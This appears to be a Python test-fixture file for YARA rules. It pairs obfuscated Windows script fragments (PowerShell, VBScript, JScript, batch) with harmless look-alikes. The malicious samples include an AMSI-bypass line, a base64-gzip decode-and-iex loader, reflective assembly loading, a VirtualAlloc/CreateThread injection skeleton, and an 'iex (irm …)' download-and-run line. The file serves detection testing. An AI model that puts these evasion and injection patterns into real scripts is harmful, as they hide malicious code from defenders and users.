"""Samples of obfuscated scripts of Windows, and harmless twins close to them; ``¦`` marks cuts."""

from __future__ import annotations

from tests.examine.yara.samples.support import joined

BAD: dict[str, list[bytes]] = {
    "RG-OBF-0001": [
        joined("$o = n`¦e`w-object x; i`¦e`x $o; i¦n`voke-item $o; do¦w`nload; in¦v`oke-it $z"),
    ],
    "RG-OBF-0002": [
        joined(
            "& (\"{1}{0¦}\"-f 'x','ie'); (\"{2}{0}{¦1}\" -f 'w-','object','ne'); (\"{3}{1}{0}¦{2}\"-f'a','b','c','d')"
        ),
    ],
    "RG-OBF-0003": [
        joined(
            "ie¦x ([char]119+[char]114+[char]105+[char]11"
            "¦6+[char]10¦1+[char]4¦5+[char]104+[char]111+[char]115+[char]116)"
        ),
        joined("invoke-e¦xpression (-join [char[]](119,114,105,116,101,45,1¦04,111,115,116,32,39,104,105,39,59,10))"),
    ],
    "RG-OBF-0004": [
        joined(
            "ie¦x (New-Object IO.StreamReader((New-Object"
            " IO.Compressi¦on.GzipStream([IO.MemoryStream"
            "][Convert]::FromBase¦64Strin¦g('§b200§'),0)))).ReadToEnd()"
        ),
    ],
    "RG-OBF-0005": [
        joined(
            "$a = [Reflection.Assembly]::L¦oa¦d([Convert]::FromBase¦64String($t)); $a.Entr¦yPoint.Invoke($null, $null)"
        ),
    ],
    "RG-OBF-0006": [
        joined("$f = $t.GetField('amsiIni¦tFailed','NonPublic,Static'); $f.SetValu¦e($null,$true)"),
        joined("'System.Management.Automation.A'+'ms¦i'+'Utils'"),
    ],
    "RG-OBF-0007": [
        joined(
            "[Byt¦e[]] $c = 0x90,0x90; $m = "
            "$k::Virtua¦lAlloc(0,0x1000,0x3000,0x40); "
            "[System.Runtime.InteropService¦s.Marshal]::C"
            "opy($c,0,$m,2); $k::Create¦Thread(0,0,$m,0,0,0)"
        ),
    ],
    "RG-OBF-0010": [
        joined('Execute Chr(77) & Chr(115) & Chr(10¦3) & Chr(66) & Chr(111) & Chr(120) & Chr(32) & "1"'),
    ],
    "RG-OBF-0011": [
        joined("For i = 1 To Len(s) Step 3\r\n r = r & Ch¦r(C¦I¦n¦t(M¦i¦d(s, i, 3)) - 17)\r\nNe¦xt\r\nExecu¦te r\r\n"),
    ],
    "RG-OBF-0012": [
        joined("#@~^Eg¦AAAA==\tHdTAK6~rtnV^GJbYAUAA¦A==^#~@\r\n"),
    ],
    "RG-OBF-0013": [
        joined(
            "var o = new Active¦XObject('Scripting.Dictio"
            "nary'); e¦v¦al(String.fromCharCode(118,97,11"
            "4,3¦2,97,61,49,59,118,97,114,32,98,61,50,59));"
        ),
    ],
    "RG-OBF-0020": [
        joined(
            "set a=abcdefghij\r\n"
            "%a:~1,1%%a:~2¦,1%%a:~3¦,1%%a:~4¦,1%%a:~5¦,1%"
            "%a:~6¦,1%%a:~7¦,1%%a:~8¦,1%%a:~0¦,1%%a:~1,1% x\r\n"
        ),
    ],
    "RG-OBF-0021": [
        joined('p^o^¦w^e^r¦^s^h^e^l^l -c "exit"\r\n'),
        joined("@c^¦m^d /c echo x\r\n"),
    ],
    "RG-OBF-0023": [
        joined(
            'power¦shell -c "$t = [IO.Fil¦e]::ReadAllT¦ex'
            "t('%~f0'); ie¦x ([Text.E¦ncoding]::UTF8.GetS"
            'tring([Convert]::FromBase¦64String($t.Substring(9))))"\r\n'
        ),
    ],
    "RG-OBF-0047": [
        joined("&('i'¦+'e¦x') (ir¦m https://x.invalid/a)\n"),
        joined("$w.('Do¦wn'+'loadStr¦ing').Invoke($u)\n"),
        joined("&('{1}{0}'-¦f'ex','i') $c\n"),
        joined("&($env:com¦spec[4,24,25]-join'') $c\n"),
        joined(".($She¦llId[1]+$She¦llId[13]+'x') $c\n"),
        joined("&( $Verbose¦Preference.ToString()[1,3]+'x'-join'') $c\n"),
        joined("I`E¦`X $c\n"),
        joined("(N`¦ew-Ob`ject Net.WebClient)\n"),
        joined("ie¦x (-jo¦in ('olleh ¦tuptuO-etirW'[-1..-18]))\n"),
    ],
    "RG-OBF-0049": [
        joined("set a=po¦w&&set b=ershell&&call %a%%b% -c calc\r\n"),
        joined("%COMSP¦EC:~-7,3% /¦c echo\r\n"),
    ],
}
"""Samples that a rule must find, by the rule's id."""

BENIGN: dict[str, list[bytes]] = {
    "RG-OBF-0001": [
        joined('Write-Host "a`tb`r`n"; $path = "C:`$env"'),
        joined("# `new`, `iex` and `invoke` are words in a text about Markdown"),
    ],
    "RG-OBF-0002": [
        joined('Write-Host ("{0} of {1}" -f $i, $n)'),
        joined('"{1}{0}" -f $a, $b'),
    ],
    "RG-OBF-0003": [
        joined("$crlf = [char]13 + [char]10; $text = $text + $crlf"),
        joined("$alphabet = [char[]](97..122); ie¦x -version"),
    ],
    "RG-OBF-0004": [
        joined("$s = New-Object IO.Compressi¦on.GzipStream($file, 'Decompress')"),
        joined("$icon = [Convert]::FromBase¦64Strin¦g('§b200§')"),
    ],
    "RG-OBF-0005": [
        joined("[Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')"),
        joined("$b = [Convert]::FromBase¦64String($t); $a.Entr¦yPoint"),
    ],
    "RG-OBF-0006": [
        joined("AMSI scans each script before it runs; amsiIni¦tFailed is a field of it."),
    ],
    "RG-OBF-0007": [
        joined("[Byt¦e[]] $c = 1,2; [System.Runtime.InteropService¦s.Marshal]::Copy($c,0,$m,2)"),
    ],
    "RG-OBF-0010": [
        joined('MsgBox "a" & Chr(13) & Chr(10) & "b"'),
        joined('Execute "x = 1"'),
    ],
    "RG-OBF-0011": [
        joined("For i = 65 To 90\r\n r = r & Chr(i)\r\nNe¦xt\r\nMsgBox r\r\n"),
    ],
    "RG-OBF-0012": [
        joined("An encoded script begins with #@~^ and ends with ^#~@."),
    ],
    "RG-OBF-0013": [
        joined("var crlf = String.fromCharCode(13,10); WSc¦r¦ipt.Echo(crlf);"),
        joined("var s = String.fromCharCode(118,97,114,3¦2,97,61,49,59,118,97,114,32,98,61,50,59);"),
    ],
    "RG-OBF-0020": [
        joined("set year=%date:~0,4%\r\nset month=%date:~5,2%\r\necho %x:~0,1%%y:~1,1%\r\n"),
    ],
    "RG-OBF-0021": [
        joined("echo a ^& b ^| c ^\r\n"),
        joined("if %x%==1 (echo yes) ^\r\n"),
    ],
    "RG-OBF-0023": [
        joined("power¦shell -c \"$t = [IO.File]::ReadAllT¦ext('%~f0'); Write-Host $t.Length\"\r\n"),
        joined("power¦shell -File %~dp0build.ps1\r\n"),
    ],
    "RG-OBF-0047": [
        joined("$text = 'Down' + 'load'\n& ('{0}.ps1' -f $name)\n$env:ComSpec\nNew-Object Net.WebClient\n"),
        joined("Use `iex` and `New-Object`.\n"),
        joined("-join $letters[-1..-3]\n"),
    ],
    "RG-OBF-0049": [
        joined("set a=power&echo done\r\nset path=%path:~0,-1%\r\n%COMSPEC% /c echo\r\n"),
    ],
}
"""Harmless content that is like a rule's samples, by the rule's id."""
